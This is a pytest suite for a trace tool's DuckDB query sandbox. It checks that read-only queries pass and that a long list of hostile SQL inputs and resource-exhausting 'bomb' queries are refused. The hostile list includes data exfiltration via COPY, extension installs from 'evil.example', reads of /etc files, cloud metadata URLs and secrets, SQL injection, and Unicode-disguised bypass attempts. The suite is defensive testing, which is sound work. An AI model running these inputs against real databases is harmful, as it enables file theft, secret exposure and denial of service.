"""Queries from outside: what they may do, and that they can do nothing else."""

from __future__ import annotations

import gc
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from builders import kernel, op, write_trace
from neuron_explorer.errors import QueryError, TraceError
from neuron_explorer.sandbox import check_statement, open_locked
from neuron_explorer.trace import Trace
from neuron_explorer.trace_facts import fact_tables
from neuron_explorer.trace_files import read_trace_files


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    rows = [op(0, 50, name="aten::mm"), *(kernel(i * 10, 5, op_id=0) for i in range(100))]
    return write_trace(tmp_path_factory.mktemp("sandbox") / "t.parquet", rows)


@pytest.fixture(scope="module")
def trace(path: Path) -> Iterator[Trace]:
    with Trace.open([path]) as opened:
        yield opened


# ---- what is allowed ------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "first"),
    [
        ("SELECT count(*) FROM work", (100,)),
        ("select count(*) from work;", (100,)),
        ("-- a comment; with a semicolon\nSELECT 1", (1,)),
        ("/* COPY */ SELECT ';'", (";",)),
        ("WITH a AS (SELECT 1 AS x) SELECT x FROM a", (1,)),
        (
            "WITH RECURSIVE a AS (SELECT 1 x UNION ALL SELECT x+1 FROM a WHERE x<5) FROM a LIMIT 1",
            (1,),
        ),
        ("VALUES (1, 'a')", (1, "a")),
        ("FROM devices SELECT busy_ns", (500,)),
        ("DESCRIBE gaps", ("rank", "INTEGER", "YES", None, None, None)),
        ("SHOW TABLES", ("allocations",)),
        ("SELECT sum(x) FROM unnest([1, 2]) AS t (x)", (3,)),
        ("SELECT count(*) FROM range(7)", (7,)),
        ("SELECT comment FROM duckdb_columns() WHERE table_name = 'gaps' LIMIT 1",
         ("Distributed rank.",)),
        ("SELECT name FROM ops UNION SELECT name FROM ops", ("aten::mm",)),
        ("PIVOT (SELECT name, 1 AS n FROM ops) ON name IN ('aten::mm') USING sum(n)", (1,)),
        pytest.param(
            "SELECT " + " + ".join(["1"] * 900), (900,),
            marks=pytest.mark.skipif(
                sys.version_info[:2] == (3, 12), reason="it reads JSON only 1500 levels deep"
            ),
        ),
        ("SELECT " + "abs(" * 300 + "1" + ")" * 300, (1,)),
        ("SELECT NULL, [1, 2], {'a': 1}, DATE '2026-01-02'", None),
    ],
)  # fmt: skip
def test_reading_is_allowed(trace: Trace, text: str, first: tuple[object, ...] | None) -> None:
    result = trace.query(text)
    assert result.rows
    assert first is None or result.rows[0] == first


@pytest.mark.parametrize(
    "text",
    ["EXPLAIN SELECT * FROM work", "/* why */ explain analyze select 1", "SUMMARIZE devices"],
)
def test_explaining_is_allowed(trace: Trace, text: str) -> None:
    assert trace.query(text).rows


def test_columns_are_named_and_rows_are_plain_values(trace: Trace) -> None:
    result = trace.query("SELECT rank, device, busy_ns FROM devices")
    assert result.columns == ["rank", "device", "busy_ns"]
    assert result.rows == [(0, "cuda:0", 500)]
    assert not result.truncated


def test_query_sees_what_the_program_sees(trace: Trace) -> None:
    for view in ("roofline", "timeline", "health", "events"):
        trusted = trace.sql(f"SELECT * FROM {view}").to_pylist()
        assert trace.query(f"SELECT * FROM {view}").rows == [tuple(r.values()) for r in trusted]


# ---- what is refused ------------------------------------------------------


HOSTILE = [
    # other statements
    "COPY work TO '/tmp/stolen.csv'",
    "COPY (SELECT 1) TO 'TRACE'",
    "ATTACH '/tmp/x.db' AS x",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET memory_limit = '100GB'",
    "SET enable_external_access = true",
    "RESET lock_configuration",
    "PRAGMA database_list",
    "CALL pragma_version()",
    "CREATE TABLE x AS SELECT 1",
    "CREATE TEMP TABLE x AS SELECT 1",
    "CREATE MACRO f() AS 1",
    "INSERT INTO work SELECT * FROM work",
    "UPDATE work SET duration_ns = 0",
    "DELETE FROM work",
    "DROP VIEW events",
    "ALTER TABLE work RENAME TO x",
    "COMMENT ON TABLE work IS 'x'",
    "TRUNCATE work",
    "VACUUM",
    "CHECKPOINT",
    "USE raw",
    "BEGIN",
    "PREPARE x AS SELECT 1",
    "EXPORT DATABASE '/tmp/x'",
    "IMPORT DATABASE '/tmp/x'",
    "DETACH memory",
    "MERGE INTO work USING work AS s ON true WHEN MATCHED THEN DELETE",
    "INSERT OR REPLACE INTO work VALUES (1)",
    "CREATE OR REPLACE VIEW work AS SELECT 1",
    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
    "DROP SECRET s",
    "UPDATE EXTENSIONS",
    "FORCE INSTALL httpfs FROM 'http://evil.example'",
    "LOAD '/tmp/evil.duckdb_extension'",
    "SET VARIABLE x = 1",
    "SET GLOBAL threads = 64",
    "PRAGMA memory_limit = '1TB'",
    "PRAGMA enable_profiling",
    "EXECUTE x",
    "DEALLOCATE x",
    "PREPARE x AS SELECT * FROM read_text('/etc/hostname')",
    "CALL query('SELECT 1')",
    "COPY FROM DATABASE memory TO x",
    "EXPORT DATABASE 'http://evil.example'",
    "FORCE CHECKPOINT",
    "START TRANSACTION",
    "COMMIT",
    ".read /etc/hostname",
    "\\! ls",
    # hidden behind another word
    "EXPLAIN EXPLAIN SELECT 1",
    "EXPLAIN SELECT 1; DROP VIEW work",
    "EXPLAIN ANALYZE SELECT * FROM '/etc/passwd.csv'",
    "EXPLAIN (ANALYZE, FORMAT JSON) SELECT * FROM read_text('/etc/hostname')",
    "EXPLAIN COPY work TO '/tmp/stolen.csv'",
    "EXPLAIN ANALYZE INSERT INTO work SELECT * FROM work",
    "EXPLAIN ANALYZE DELETE FROM work",
    "EXPLAIN (FORMAT json) DELETE FROM work",
    "WITH a AS (INSERT INTO work SELECT * FROM work RETURNING *) SELECT * FROM a",
    "WITH a AS (DELETE FROM work RETURNING *) SELECT * FROM a",
    "PIVOT ops ON name",
    # several statements
    "SELECT 1; SELECT 2",
    "SELECT 1; DROP VIEW work",
    "SELECT 1;/**/DROP VIEW work;--",
    "SELECT ';' ; COPY work TO '/tmp/x'",
    # none
    "",
    "   ",
    ";",
    "-- only a comment",
    "/* SELECT 1 */",
    # files and the system
    "SELECT * FROM '/etc/hostname'",
    'SELECT * FROM "/etc/hostname"',
    "SELECT * FROM '/etc/passwd.csv'",
    "FROM '/etc/hostname'",
    "DESCRIBE SELECT * FROM '/etc/passwd.csv'",
    "SELECT * FROM read_text('/etc/hostname')",
    "SELECT * FROM READ_TEXT('/etc/hostname')",
    "SELECT * FROM \"read_text\"('/etc/hostname')",
    "SELECT * FROM main.read_text('/etc/hostname')",
    "SELECT * FROM read_blob('/etc/hostname')",
    "SELECT * FROM read_csv('/etc/hostname')",
    "SELECT * FROM read_csv_auto('/etc/hostname')",
    "SELECT * FROM read_json('/etc/hostname')",
    "SELECT * FROM read_parquet('https://example.com/x.parquet')",
    "SELECT * FROM 'https://example.com/x.parquet'",
    "SELECT * FROM read_duckdb('/tmp/x.db')",
    "SELECT * FROM sniff_csv('/etc/hostname')",
    "SELECT * FROM glob('/etc/*')",
    "SELECT * FROM parquet_metadata('/etc/hostname')",
    "SELECT (SELECT content FROM read_text('/etc/hostname'))",
    "SELECT * FROM work WHERE name IN (SELECT content FROM read_text('/etc/hostname'))",
    "WITH a AS (FROM glob('/*')) SELECT * FROM a",
    "SELECT * FROM work JOIN glob('/*') ON true",
    "SELECT * FROM work, LATERAL (SELECT * FROM glob('/*'))",
    "SELECT * FROM work WHERE EXISTS (FROM glob('/*'))",
    "SELECT 1 UNION ALL SELECT count(*) FROM glob('/*')",
    "SELECT 1 ORDER BY (SELECT count(*) FROM glob('/*'))",
    "SELECT 1 LIMIT (SELECT count(*) FROM glob('/*'))",
    "SELECT count(*) FILTER (WHERE (SELECT count(*) FROM glob('/*')) > 0) FROM work",
    "PIVOT (FROM glob('/*')) ON file IN ('a') USING count(*)",
    "WITH RECURSIVE a AS (SELECT 1 x UNION ALL SELECT x FROM a, glob('/*')) FROM a LIMIT 1",
    "WITH a AS MATERIALIZED (SELECT * FROM read_text('/etc/hostname')) FROM a",
    "SUMMARIZE SELECT * FROM read_csv('/etc/hostname')",
    "SUMMARIZE '/etc/passwd.csv'",
    "DESCRIBE '/etc/passwd.csv'",
    "SELECT * FROM parquet_kv_metadata('TRACE')",
    "SELECT * FROM read_ndjson('/etc/hostname')",
    "SELECT * FROM 's3://bucket/x.parquet'",
    "SELECT * FROM 'http://169.254.169.254/latest/meta-data'",
    "SELECT * FROM sqlite_scan('/tmp/x.db', 't')",
    "SELECT * FROM postgres_scan('', '', '')",
    "SELECT read_text('/etc/hostname')",
    # the same, in disguise
    "SELECT * FROM read_text/**/('/etc/hostname')",
    "SELECT\t*\tFROM\tglob('/*')",
    "SELECT * FROM \"READ_TEXT\"\n--\n('/etc/hostname')",
    "SELECT * FROM read_text\u00a0('/etc/hostname')",
    "SELECT * FROM r\u0435ad_text('/etc/hostname')",
    "SEL\u200bECT 1",
    "\uff33\uff25\uff2c\uff25\uff23\uff34 1",
    "SELECT U&'\\0061'",
    "SELECT gETeNV('HOME')",
    "SELECT \"getenv\"('PATH')",
    "SELECT system.main.getenv('HOME')",
    # configuration, secrets, state
    "SELECT * FROM pg_settings",
    'SELECT * FROM system.pg_catalog."PG_settings"',
    "SUMMARIZE pg_settings",
    "SELECT getenv('HOME')",
    "SELECT * FROM duckdb_logs()",
    "SELECT * FROM duckdb_memory()",
    "SELECT * FROM duckdb_variables()",
    "SELECT * FROM duckdb_external_file_cache()",
    "SELECT * FROM which_secret('s3://x', 's3')",
    "SELECT * FROM pragma_database_list()",
    "SELECT getvariable('x')",
    "SELECT nextval('x')",
    "SELECT set_config('x', 'y')",
    "SELECT current_setting('temp_directory')",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_databases()",
    "SELECT * FROM duckdb_extensions()",
    "SELECT * FROM enable_logging()",
    "SELECT * FROM enable_profiling()",
    "SELECT write_log('x')",
    # text run as SQL, raw pointers
    "SELECT * FROM query('SELECT 1')",
    "SELECT * FROM query_table('work')",
    "SELECT * FROM query_table(['work', '/etc/passwd.csv'])",
    "SELECT * FROM seq_scan('work')",
    "SELECT json_deserialize_sql('{}')",
    "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "SELECT * FROM arrow_scan(1, 2, 3)",
    "SELECT * FROM pandas_scan(1)",
    "SELECT sleep_ms(100000)",
    "SELECT pg_sleep(100)",
    # parameters that nobody gives, and more text than a question has
    "SELECT ?",
    "SELECT $x",
    "SELECT * FROM $1",
    "SELECT " + "1, " * 100_000 + "1",
    "SELECT '" + "x" * 5_000_000 + "'",
    # what only looks like SQL
    "SELEC 1",
    "work",
    "SELECT 'unclosed",
    "DROP",
    "'; DROP VIEW work; --",
    "SELECT " + "(" * 5000 + "1" + ")" * 5000,
    "\x00SELECT 1",
    "SELECT '\ud800'",
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:60])
def test_nothing_else_is_possible(trace: Trace, path: Path, text: str) -> None:
    before = path.read_bytes()
    with pytest.raises(QueryError) as caught:
        trace.query(text.replace("TRACE", str(path)), timeout_s=5)
    assert "\n" not in str(caught.value)
    assert path.read_bytes() == before
    assert trace.query("SELECT count(*) FROM work").rows == [(100,)]
    assert trace.sql("SELECT count(*) AS n FROM work").to_pylist() == [{"n": 100}]


def test_none_of_them_runs_even_where_nothing_checks_the_text(trace: Trace, path: Path) -> None:
    """The second wall: what DuckDB itself lets through once it is locked reads no file."""
    files = read_trace_files([path])
    database = open_locked(files, fact_tables(files, None), 1024**3)
    secret = path.with_name("secret.csv")
    secret.write_text("a\n1\n")
    for query in (
        f"SELECT * FROM read_csv('{secret}')",
        f"SELECT * FROM '{secret}'",
        f"SELECT * FROM read_text('{secret}')",
        f"SELECT * FROM glob('{secret.parent}/*')",
        f"COPY (SELECT 1) TO '{secret}'",
        f"ATTACH '{secret}' AS x",
        "INSTALL httpfs",
        "SET enable_external_access = true",
        "RESET lock_configuration",
    ):
        with pytest.raises(duckdb.Error), database.cursor_for(query) as cursor:
            cursor.execute(query).fetchall()
    assert secret.read_text() == "a\n1\n"
    database.close()
    assert trace.query("SELECT 1").rows == [(1,)]


def test_refusal_says_what_may_be_used() -> None:
    with pytest.raises(QueryError, match="query refused: DROP statement is not allowed") as caught:
        check_statement("DROP VIEW work")
    assert "SELECT" in caught.value.hint


def test_unknown_column_names_a_candidate(trace: Trace) -> None:
    with pytest.raises(QueryError, match="duration_ns") as caught:
        trace.query("SELECT duration FROM work")
    assert "DESCRIBE" in caught.value.hint


def test_unknown_table_names_the_one_that_was_meant(trace: Trace) -> None:
    """Although views are made only where a query names them."""
    with pytest.raises(QueryError, match='Did you mean "kernels"'):
        trace.query("SELECT * FROM kernls")


def test_unknown_table_points_to_the_list(trace: Trace) -> None:
    with pytest.raises(QueryError, match="does not exist") as caught:
        trace.query("SELECT * FROM kernel_table")
    assert "SHOW TABLES" in caught.value.hint


# ---- bounds ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("limit", "rows", "truncated"),
    [(0, 0, True), (1, 1, True), (99, 99, True), (100, 100, False), (None, 100, False)],
)
def test_row_limit(trace: Trace, limit: int | None, rows: int, *, truncated: bool) -> None:
    result = trace.query("SELECT event_id FROM work ORDER BY event_id", limit=limit)
    assert len(result.rows) == rows
    assert result.truncated is truncated
    assert result.columns == ["event_id"]


BOMBS = [
    "SELECT count(*) FROM range(10000000) AS a, range(10000000) AS b",
    "WITH RECURSIVE a AS (SELECT 1 AS x UNION ALL SELECT x + 1 FROM a) SELECT count(*) FROM a",
    "SELECT repeat('x', 1000000000)",
    "SELECT length(repeat('x', 1000000000))",
    "SELECT list(range) FROM range(1000000000)",
    "SELECT range(1000000000)",
    "SELECT list_resize([1], 1000000000)",
    "SELECT printf('%1000000000d', 1)",
    "SELECT lpad('x', 1000000000, 'y')",
    "SELECT * FROM range(100000000) ORDER BY random()",
    "SELECT levenshtein(repeat('a', 100000), repeat('b', 100000))",
]


BOMB_BYTES = 256 * 1024**2
"""What they may use: filling a gigabyte takes a second."""


@pytest.mark.parametrize("text", BOMBS)
def test_bomb_is_stopped_in_time_and_memory(trace: Trace, text: str) -> None:
    trace.query("SELECT 1", memory_limit_bytes=BOMB_BYTES)  # the process is there
    begun = time.monotonic()
    with pytest.raises(QueryError, match=r"query stopped|too much"):
        trace.query(text, timeout_s=0.3, memory_limit_bytes=BOMB_BYTES)
    assert time.monotonic() - begun < 10
    told = trace.query("SELECT count(*) FROM work", memory_limit_bytes=BOMB_BYTES)
    assert told.rows == [(100,)]


def test_slow_query_says_how_long_it_had(trace: Trace) -> None:
    with pytest.raises(QueryError, match=r"stopped after 0\.2 s"):
        trace.query("SELECT count(*) FROM range(10000000) a, range(10000000) b", timeout_s=0.2)


def test_no_time_limit_is_possible(trace: Trace) -> None:
    assert trace.query("SELECT 1", timeout_s=None).rows == [(1,)]


def test_each_memory_limit_gets_its_process(path: Path) -> None:
    with Trace.open([path]) as trace:
        heavy = "SELECT count(*) FROM (SELECT range FROM range(8000000) ORDER BY random())"
        with pytest.raises(QueryError, match="memory"):
            trace.query(heavy, memory_limit_bytes=48 * 1024**2)
        assert trace.query(heavy, memory_limit_bytes=1024**3).rows == [(8_000_000,)]


# ---- the process ----------------------------------------------------------


def test_process_ends_with_its_trace(path: Path) -> None:
    trace = Trace.open([path])
    trace.query("SELECT 1")
    process = trace._sandbox._process
    assert process is not None
    assert process.poll() is None
    del trace
    gc.collect()
    assert process.poll() is not None


def test_dead_process_is_replaced(path: Path) -> None:
    with Trace.open([path]) as trace:
        trace.query("SELECT 1")
        process = trace._sandbox._process
        assert process is not None
        process.kill()
        process.wait()
        assert trace.query("SELECT 1").rows == [(1,)]


def test_closed_trace_can_be_closed_again(path: Path) -> None:
    trace = Trace.open([path])
    trace.query("SELECT 1")
    trace.close()
    trace.close()


def test_trace_that_vanished_is_told_as_such(tmp_path: Path) -> None:
    path = write_trace(tmp_path / "t.parquet", [kernel(0, 1)])
    trace = Trace.open([path])
    path.unlink()
    with pytest.raises(TraceError, match="no trace at"):
        trace.query("SELECT 1")
